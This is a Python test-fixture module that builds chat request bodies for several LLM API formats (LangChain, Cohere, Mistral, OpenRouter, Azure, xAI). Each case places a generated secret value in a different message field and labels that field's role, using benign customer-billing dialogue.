        where="HumanMessage file block data: base64 of a text/plain file",
        role="user",
    )
    b.add(
        "ai-content",
        lambda s: langserve([ask, make("ai", f"Account {s} has a hold."), make("human", "And?")]),
        where="AIMessage content (the model's earlier reply)",
        role="model",
    )
    b.add(
        "ai-tool-calls",
        lambda s: langserve(rounds({"account_number": s}, "active")),
        where="AIMessage tool_calls[].args",
        role="model",
    )
    b.add(
        "ai-tool-calls-deep",
        lambda s: langserve(rounds(nested({"query": f"account {s}"}), "active")),
        where="AIMessage tool_calls[].args nested 12 deep",
        role="model",
    )
    b.add(
        "tool",
        lambda s: langserve(rounds({}, json.dumps({"status": "ok", "data": {"id": s}}))),
        where='ToolMessage content: JSON text {"status", "data": {"id": SECRET}}',
        role="tool",
    )
    b.add(
        "tool-blocks",
        lambda s: langserve(rounds({}, [text_part(f"account {s}: two charges")])),
        where="ToolMessage content, a text block",
        role="tool",
    )
    b.add(
        "after-300k",
        lambda s: langserve(
            [
                make("human", f"My account is {s}; list my shipments."),
                *rounds({}, "")[1:2],
                make("tool", long_document()),
            ]
        ),
        where="HumanMessage; a 300,000-character ToolMessage after it",
        role="user",
    )


def langchain_dict(mint: Mint) -> Builder:
    """LangChain messages as `messages_to_dict` writes them."""
    b = Builder(LANGCHAIN_DICT, mint, invoke_messages)
    _langchain_cases(b, lc_dict)
    ask = lc_dict("human", "Why was I charged twice?")
    b.add(
        "ai-reasoning-kwargs",
        lambda s: langserve(
            [
                ask,
                lc_dict(
                    "ai",
                    "It is a pending hold.",
                    additional_kwargs={"reasoning_content": f"Account {s} shows two holds."},
                ),
                lc_dict("human", "And the refund?"),
            ]
        ),
        where="AIMessage additional_kwargs.reasoning_content (langchain-deepseek's)",
        role="model",
    )
    return b


def langchain_dumpd(mint: Mint) -> Builder:
    """LangChain messages as `dumpd` writes them."""
    b = Builder(LANGCHAIN_DUMPD, mint, invoke_messages)
    _langchain_cases(b, lc_dumpd)
    b.add(
        "ai-chunk",
        lambda s: langserve(
            [
                lc_dumpd("human", "Why was I charged twice?"),
                lc_dumpd("ai", f"Account {s} has a hold.", cls="AIMessageChunk"),
                lc_dumpd("human", "And the refund?"),
            ]
        ),
        where="AIMessageChunk content (a streamed reply kept in the history)",
        role="model",
    )
    return b


class LcMessage(BaseModel):
    """A stand-in for a langchain-core message object (not installed here): a pydantic
    model with BaseMessage's fields, `type` one of "system", "human", "ai", "tool"."""

    model_config = ConfigDict(extra="allow")

    type: str
    content: str | list[Any]
    additional_kwargs: dict[str, Any] = {}
    response_metadata: dict[str, Any] = {}
    name: str | None = None
    id: str | None = None


def _lc_objects(secret: str, body: Json) -> list[Any]:
    """The body's messages as message objects (`LcMessage`, BaseMessage's fields)."""
    return [LcMessage.model_validate(fields) for fields in body["input"]["messages"]]


def langchain_objects(mint: Mint) -> Builder:
    """LangChain message objects (emulated: pydantic models with `.type` / `.content`)."""
    b = Builder(LANGCHAIN_OBJECTS, mint, invoke_messages)
    ask = lc_fields("human", "Why was I charged twice?")

    def add(name: str, make: Callable[[str], list[Json]], where: str, role: Role) -> None:
        b.add(name, lambda s: langserve(make(s)), where=where, role=role, messages=_lc_objects)

    add("system", lambda s: [lc_fields("system", f"Escalation code {s}."), ask], "system", "system")
    add("human", lambda s: [lc_fields("human", f"My account is {s}.")], "human content", "user")
    add(
        "human-blocks",
        lambda s: [lc_fields("human", [text_part(f"Order key {s}.")])],
        "human content, a text block",
        "user",
    )
    add(
        "ai-tool-calls",
        lambda s: [ask, lc_fields("ai", "", tool_calls=[lc_call({"account": s})])],
        "ai tool_calls[].args",
        "model",
    )
    add(
        "ai-content",
        lambda s: [ask, lc_fields("ai", f"Account {s} has a hold."), lc_fields("human", "And?")],
        "ai content (the model's earlier reply)",
        "model",
    )
    add(
        "tool",
        lambda s: [ask, lc_fields("tool", f"account {s}: two charges")],
        "tool content",
        "tool",
    )
    add(
        "after-300k",
        lambda s: [lc_fields("human", f"My account is {s}."), lc_fields("tool", long_document())],
        "human; a 300,000-character tool message after it",
        "user",
    )
    return b


# --- Cohere ---------------------------------------------------------------------------

COHERE_V1 = Shape(
    "cohere-v1",
    "/v1/chat",
    "cohere-python src/cohere/types/chat_message.py, chatbot_message.py, system_message.py, "
    "tool_message.py (chat_history roles USER, CHATBOT, SYSTEM, TOOL), tool_result.py "
    "({call, outputs}); https://docs.cohere.com/v1/reference/chat (message, preamble, "
    "chat_history, documents, tool_results)",
)
COHERE_V2 = Shape(
    "cohere-v2",
    "/v2/chat",
    "cohere-python src/cohere/v2/types/ (ChatMessageV2: system, user, assistant {tool_plan, "
    "tool_calls, content}, tool {tool_call_id, content: str | [text | document]}; Document "
    "{data, id}); https://docs.cohere.com/reference/chat and "
    "https://docs.cohere.com/docs/migrating-v1-to-v2 (tool results as "
    '{"type": "document", "document": {"data": json.dumps(...)}})',
)


def cohere1(message: str, **extra: Any) -> Json:
    """A Cohere v1 chat request body."""
    return {"model": "command-r-plus", "message": message, **extra}


def _v1_result(outputs: list[Json]) -> Json:
    return {
        "call": {"name": "lookup_account", "parameters": {"customer": "Dana"}},
        "outputs": outputs,
    }


def cohere_v1(mint: Mint) -> Builder:
    """Cohere v1 chat: preamble, message, chat_history roles, documents, tool results."""
    b = Builder(COHERE_V1, mint, whole_body)
    ask = "Why was I charged twice?"
    b.add(
        "preamble",
        lambda s: cohere1(ask, preamble=f"You are Northwind's billing bot. Escalation code {s}."),
        where="preamble",
        role="system",
    )
    b.add("message", lambda s: cohere1(f"My account is {s}."), where="message", role="user")
    b.add(
        "history-user",
        lambda s: cohere1(
            "And the refund?",
            chat_history=[
                {"role": "USER", "message": f"My account is {s}."},
                {"role": "CHATBOT", "message": "It is a pending hold."},
            ],
        ),
        where="chat_history USER message",
        role="user",
    )
    b.add(
        "history-chatbot",
        lambda s: cohere1(
            "And the refund?",
            chat_history=[
                {"role": "USER", "message": ask},
                {"role": "CHATBOT", "message": f"Account {s} has a hold."},
            ],
        ),
        where="chat_history CHATBOT message (the model's earlier reply)",
        role="model",
    )
    b.add(
        "history-system",
        lambda s: cohere1(ask, chat_history=[{"role": "SYSTEM", "message": f"Case {s} open."}]),
        where="chat_history SYSTEM message",
        role="system",
    )
    # Documents are what the application retrieved for the model to ground on: of no
    # author the request names, the same trust as a tool's output.
    b.add(
        "documents-snippet",
        lambda s: cohere1(
            ask,
            documents=[{"id": "doc_0", "title": "Customer record", "snippet": f"Account {s}."}],
        ),
        where="documents[].snippet",
        role="tool",
    )
    b.add(
        "documents-status",
        lambda s: cohere1(
            ask,
            documents=[
                {"id": "doc_0", "title": "Customer record", "status": f"account {s} suspended"}
            ],
        ),
        where="documents[].status (a document's own field, shown to the model)",
        role="tool",
    )
    b.add(
        "tool-results",
        lambda s: cohere1(ask, tool_results=[_v1_result([{"status": "ok", "data": {"id": s}}])]),
        where='tool_results[].outputs [{"status", "data": {"id": SECRET}}]',
        role="tool",
    )
    b.add(
        "tool-results-deep",
        lambda s: cohere1(ask, tool_results=[_v1_result([nested({"note": f"ref {s}"})])]),
        where="tool_results[].outputs nested 12 deep",
        role="tool",
    )
    b.add(
        "history-tool-calls",
        lambda s: cohere1(
            "And the refund?",
            chat_history=[
                {"role": "USER", "message": ask},
                {
                    "role": "CHATBOT",
                    "message": "",
                    "tool_calls": [{"name": "lookup_account", "parameters": {"account": s}}],
                },
            ],
        ),
        where="chat_history CHATBOT tool_calls[].parameters",
        role="model",
    )
    b.add(
        "history-tool-results",
        lambda s: cohere1(
            "And the refund?",
            chat_history=[
                {"role": "USER", "message": ask},
                {"role": "TOOL", "tool_results": [_v1_result([{"text": f"account {s}"}])]},
            ],
        ),
        where="chat_history TOOL tool_results[].outputs",
        role="tool",
    )
    b.add(
        "after-300k",
        lambda s: cohere1(
            ask,
            preamble=f"You are Northwind's shipping bot. Customer account {s}.",
            documents=[{"id": "doc_0", "title": "Warehouse log", "snippet": long_document()}],
        ),
        where="preamble; a 300,000-character document after it",
        role="system",
    )
    return b


def cohere2(*messages: Json, **extra: Any) -> Json:
    """A Cohere v2 chat request body."""
    return {"model": "command-a-03-2025", "messages": list(messages), **extra}


def _v2_round(arguments: Any, content: Any) -> list[Json]:
    call = {
        "id": "lookup_account_7fkz2n",
        "type": "function",
        "function": {"name": "lookup_account", "arguments": json.dumps(arguments)},
    }
    return [
        {"role": "user", "content": "Why was I charged twice?"},
        {"role": "assistant", "tool_plan": "I will look the account up.", "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "lookup_account_7fkz2n", "content": content},
    ]


def _cohere_v2_tools(b: Builder) -> None:
    """Cohere v2 tool plans, calls and results."""
    b.add(
        "tool-plan",
        lambda s: cohere2(
            {"role": "user", "content": "Why was I charged twice?"},
            {
                "role": "assistant",
                "tool_plan": f"I will look up account {s} first.",
                "tool_calls": [],
            },
        ),
        where="assistant tool_plan",
        role="model",
    )
    b.add(
        "tool-call-arguments",
        lambda s: cohere2(*_v2_round({"account": s}, "active")),
        where="assistant tool_calls[].function.arguments",
        role="model",
    )
    b.add(
        "tool-document-data-string",
        lambda s: cohere2(
            *_v2_round(
                {},
                [
                    {
                        "type": "document",
                        "document": {"data": json.dumps({"status": "ok", "id": s})},
                    }
                ],
            )
        ),
        where="tool content document.data (JSON text, as the docs write it)",
        role="tool",
    )
    b.add(
        "tool-document-data-object",
        lambda s: cohere2(
            *_v2_round(
                {},
                [
                    {
                        "type": "document",
                        "document": {"data": {"status": "ok", "data": {"id": s}}, "id": "doc_0"},
                    }
                ],
            )
        ),
        where='tool content document.data {"status", "data": {"id": SECRET}}',
        role="tool",
    )
    b.add(
        "tool-document-deep",
        lambda s: cohere2(
            *_v2_round(
                {},
                [{"type": "document", "document": {"data": nested({"note": f"ref {s}"})}}],
            )
        ),
        where="tool content document.data nested 12 deep",
        role="tool",
    )
    b.add(
        "tool-text",
        lambda s: cohere2(*_v2_round({}, [{"type": "text", "text": f"account {s}: active"}])),
        where="tool content, a text part",
        role="tool",
    )
    b.add(
        "tool-string",
        lambda s: cohere2(*_v2_round({}, f"account {s}: active")),
        where="tool content (string)",
        role="tool",
    )


def cohere_v2(mint: Mint) -> Builder:
    """Cohere v2 chat: messages with tool plans and document results, documents."""
    b = Builder(COHERE_V2, mint, whole_body)
    ask = {"role": "user", "content": "Why was I charged twice?"}
    b.add(
        "system",
        lambda s: cohere2({"role": "system", "content": f"Escalation code {s}."}, ask),
        where="system message content",
        role="system",
    )
    b.add(
        "user-string",
        lambda s: cohere2({"role": "user", "content": f"My account is {s}."}),
        where="user message content (string)",
        role="user",
    )
    b.add(
        "user-parts",
        lambda s: cohere2({"role": "user", "content": [text_part(f"Order key {s}.")]}),
        where="user message content, a text part",
        role="user",
    )
    b.add(
        "assistant-content",
        lambda s: cohere2(
            ask,
            {"role": "assistant", "content": [text_part(f"Account {s} has a hold.")]},
            {"role": "user", "content": "And the refund?"},
        ),
        where="assistant content (the model's earlier reply)",
        role="model",
    )
    b.add(
        "documents-objects",
        lambda s: cohere2(
            ask,
            documents=[
                {"id": "doc_0", "data": {"title": "Customer record", "snippet": f"Account {s}."}}
            ],
        ),
        where="documents[].data.snippet (request-level documents)",
        role="tool",
    )
    b.add(
        "documents-strings",
        lambda s: cohere2(ask, documents=[f"Customer record: account {s}, gold tier."]),
        where="documents[] as plain strings",
        role="tool",
    )
    b.add(
        "after-300k",
        lambda s: cohere2(
            {"role": "user", "content": f"My account is {s}; list my shipments."},
            *_v2_round({}, [{"type": "text", "text": long_document()}])[1:],
        ),
        where="user message; a 300,000-character tool result after it",
        role="user",
    )
    _cohere_v2_tools(b)
    return b


# --- Mistral --------------------------------------------------------------------------

MISTRAL = Shape(
    "mistral",
    "/v1/chat/completions",
    "mistralai client-python src/mistralai/models/chatcompletionrequest.py, "
    "systemmessage.py, usermessage.py, assistantmessage.py (prefix), toolmessage.py, "
    "textchunk.py, imageurlchunk.py (image_url: str | {url}), documenturlchunk.py, "
    "thinkchunk.py; https://docs.mistral.ai/api/#tag/chat",
    stream="openai-chat",
    litellm=True,
)


def mistral_body(*messages: Json) -> Json:
    """A Mistral chat completion request body."""
    return {"model": "mistral-large-latest", "messages": list(messages)}


def mistral(mint: Mint) -> Builder:
    """Mistral chat: chunks, image and document URLs, tools, prefix, thinking."""
    b = Builder(MISTRAL, mint, messages_list)
    ask = {"role": "user", "content": "Why was I charged twice?"}
    call = {"id": "D681PevKs", "type": "function"}

    def tools(arguments: Any, content: Any) -> list[Json]:
        function = {"name": "lookup_account", "arguments": json.dumps(arguments)}
        return [
            ask,
            {"role": "assistant", "content": "", "tool_calls": [{**call, "function": function}]},
            {
                "role": "tool",
                "name": "lookup_account",
                "tool_call_id": "D681PevKs",
                "content": content,
            },
        ]

    b.add(
        "system",
        lambda s: mistral_body({"role": "system", "content": f"Escalation code {s}."}, ask),
        where="system message content",
        role="system",
    )
    b.add(
        "user-string",
        lambda s: mistral_body({"role": "user", "content": f"My account is {s}."}),
        where="user message content",
        role="user",
    )
    b.add(
        "user-chunks",
        lambda s: mistral_body({"role": "user", "content": [text_part(f"Order key {s}.")]}),
        where="user content, a text chunk",
        role="user",
    )
    b.add(
        "user-image-url-string",
        lambda s: mistral_body(
            {
                "role": "user",
                "content": [
                    text_part("Read this receipt."),
                    {
                        "type": "image_url",
                        "image_url": f"https://files.northwind.example/r.png?ref={s}",
                    },
                ],
            }
        ),
        where="user image_url chunk, the URL as a plain string (its query)",
        role="user",
    )
    b.add(
        "user-document-url",
        lambda s: mistral_body(
            {
                "role": "user",
                "content": [
                    text_part("Read my statement."),
                    {
                        "type": "document_url",
                        "document_url": f"https://files.northwind.example/statements/{s}.pdf",
                        "document_name": "statement.pdf",
                    },
                ],
            }
        ),
        where="user document_url chunk (the URL's path)",
        role="user",
    )
    b.add(
        "tool-call-arguments",
        lambda s: mistral_body(*tools({"account": s}, "active")),
        where="assistant tool_calls[].function.arguments",
        role="model",
    )
    b.add(
        "tool",
        lambda s: mistral_body(*tools({}, json.dumps({"status": "ok", "data": {"id": s}}))),
        where='tool message content: JSON text {"status", "data": {"id": SECRET}}',
        role="tool",
    )
    b.add(
        "tool-chunks",
        lambda s: mistral_body(*tools({}, [text_part(f"account {s}: two charges")])),
        where="tool message content, a text chunk",
        role="tool",
    )
    # A prefix is written by the caller to start the model's answer, but it is sent as
    # the assistant's: nothing in the request says otherwise.
    b.add(
        "assistant-prefix",
        lambda s: mistral_body(
            ask, {"role": "assistant", "content": f"Account {s}: ", "prefix": True}
        ),
        where="assistant message with prefix: true",
        role="model",
    )
    b.add(
        "thinking",
        lambda s: mistral_body(
            ask,
            {
                "role": "assistant",
                "content": [
                    {"type": "thinking", "thinking": [text_part(f"Account {s} has two holds.")]},
                    text_part("It is a pending hold."),
                ],
            },
            {"role": "user", "content": "And the refund?"},
        ),
        where="assistant thinking chunk (Magistral)",
        role="model",
    )
    b.add(
        "after-300k",
        lambda s: mistral_body(
            {"role": "user", "content": f"My account is {s}; list my shipments."},
            *tools({}, long_document())[1:],
        ),
        where="user message; a 300,000-character tool message after it",
        role="user",
    )
    return b


# --- OpenAI-compatible servers (one or two cases each) --------------------------------

OPEN_WEBUI = Shape(
    "open-webui",
    "/api/chat/completions",
    "https://docs.openwebui.com/getting-started/api-endpoints (POST /api/chat/completions: "
    "an OpenAI body, plus files [{type, id}]); open-webui backend/open_webui/main.py "
    "chat_completion (chat_id, id, session_id, features, variables, params)",
    stream="openai-chat",
    litellm=True,
)
OPENROUTER = Shape(
    "openrouter",
    "/api/v1/chat/completions",
    "https://openrouter.ai/docs/api-reference/chat-completion and "
    "https://openrouter.ai/docs/use-cases/reasoning-tokens (assistant reasoning, "
    "reasoning_details [{type: reasoning.text, text}] sent back in the history)",
    stream="openai-chat",
    litellm=True,
)
AZURE = Shape(
    "azure-openai",
    "/openai/deployments/gpt-4o/chat/completions",
    "https://learn.microsoft.com/azure/ai-services/openai/reference (chat completions, "
    "api-version query); On Your Data: the assistant message's context {citations "
    "[{content, title, filepath, url, chunk_id}], intent}, sent back with the history",
    stream="openai-chat",
    litellm=True,
)
XAI = Shape(
    "xai",
    "/v1/chat/completions",
    "https://docs.x.ai/docs/api-reference#chat-completions (OpenAI chat body; "
    "reasoning_content on grok-3-mini's assistant messages)",
    stream="openai-chat",
    litellm=True,
)


def open_webui(mint: Mint) -> Builder:
    """Open WebUI's chat completion body: OpenAI's, with its own fields around it."""
    b = Builder(OPEN_WEBUI, mint, messages_list)
    extras = {
        "stream": True,
        "chat_id": "6f0b4c1e-6a3e-4d5e-9b1a-2f7c3e8d9a10",
        "id": "b2c4d6e8-1a3b-4c5d-8e9f-0a1b2c3d4e5f",
        "session_id": "Vq0xJ2mWbQ8yAAAB",
        "features": {"web_search": False, "code_interpreter": False},
        "variables": {"{{USER_NAME}}": "Dana Whitfield", "{{CURRENT_DATE}}": "2025-06-02"},
        "files": [{"type": "file", "id": "0c9d8e7f-6a5b-4c3d-2e1f-0a9b8c7d6e5f"}],
        "params": {},
    }
    b.add(
        "user",
        lambda s: {**chat({"role": "user", "content": f"My account is {s}."}), **extras},
        where="user message content, among Open WebUI's own fields",
        role="user",
    )
    b.add(
        "system",
        lambda s: {
            **chat(
                {"role": "system", "content": f"Escalation code {s}."},
                {"role": "user", "content": "Why was I charged twice?"},
            ),
            **extras,
        },
        where="system message (a model preset's prompt)",
        role="system",
    )
    return b


def openrouter(mint: Mint) -> Builder:
    """OpenRouter: reasoning sent back in the history."""
    b = Builder(OPENROUTER, mint, messages_list)
    ask = {"role": "user", "content": "Why was I charged twice?"}
    again = {"role": "user", "content": "And the refund?"}
    b.add(
        "assistant-reasoning",
        lambda s: chat(
            ask,
            {
                "role": "assistant",
                "content": "It is a pending hold.",
                "reasoning": f"Account {s} shows two holds.",
            },
            again,
        ),
        where="assistant reasoning",
        role="model",
    )
    b.add(
        "assistant-reasoning-details",
        lambda s: chat(
            ask,
            {
                "role": "assistant",
                "content": "It is a pending hold.",
                "reasoning_details": [
                    {
                        "type": "reasoning.text",
                        "text": f"Account {s} shows two holds.",
                        "format": "anthropic-claude-v1",
                        "index": 0,
                    }
                ],
            },
            again,
        ),
        where="assistant reasoning_details[].text",
        role="model",
    )
    return b


def azure(mint: Mint) -> Builder:
    """Azure OpenAI: a deployment's path; On Your Data citations in `context`."""
    b = Builder(AZURE, mint, messages_list)
    b.add(
        "user",
        lambda s: chat({"role": "user", "content": f"My account is {s}."}),
        where="user message content",
        role="user",
    )
    # Citations are the retrieved documents the answer was grounded on: a search's output.
    b.add(
        "assistant-context-citations",
        lambda s: chat(
            {"role": "user", "content": "Why was I charged twice?"},
            {
                "role": "assistant",
                "content": "It is a pending hold [doc1].",
                "context": {
                    "citations": [
                        {
                            "content": f"Account {s}: two holds placed on June 1.",
                            "title": "Customer record",
                            "filepath": "records/dana.md",
                            "url": None,
                            "chunk_id": "0",
                        }
                    ],
                    "intent": '["double charge"]',
                },
            },
            {"role": "user", "content": "And the refund?"},
        ),
        where="assistant context.citations[].content (On Your Data)",
        role="tool",
    )
    return b


def xai(mint: Mint) -> Builder:
    """xAI: OpenAI's body; reasoning_content on an assistant message."""
    b = Builder(XAI, mint, messages_list)
    b.add(
        "user",
        lambda s: chat({"role": "user", "content": f"My account is {s}."}),
        where="user message content",
        role="user",
    )
    b.add(
        "assistant-reasoning-content",
        lambda s: chat(
            {"role": "user", "content": "Why was I charged twice?"},
            {
                "role": "assistant",
                "content": "It is a pending hold.",
                "reasoning_content": f"Account {s} shows two holds.",
            },
            {"role": "user", "content": "And the refund?"},
        ),
        where="assistant reasoning_content",
        role="model",
    )
    return b


# --- the corpus -----------------------------------------------------------------------

_BUILDERS: tuple[Callable[[Mint], Builder], ...] = (
    openai_chat,
    openai_responses,
    anthropic,
    gemini_shape,
    bedrock,
    ollama_chat,
    ollama_generate,
    ai_sdk_ui,
    ai_sdk_model,
    langchain_dict,
    langchain_dumpd,
    langchain_objects,
    cohere_v1,
    cohere_v2,
    mistral,
    open_webui,
    openrouter,
    azure,
    xai,
)


def build() -> tuple[dict[str, Shape], tuple[Case, ...]]:
    """Every shape, and every case, each with its own secret."""
    mint = Mint(seed=20250602)
    builders = [make(mint) for make in _BUILDERS]
    shapes = {b.shape.name: b.shape for b in builders}
    return shapes, tuple(iter_cases(builders))


SHAPES, CASES = build()
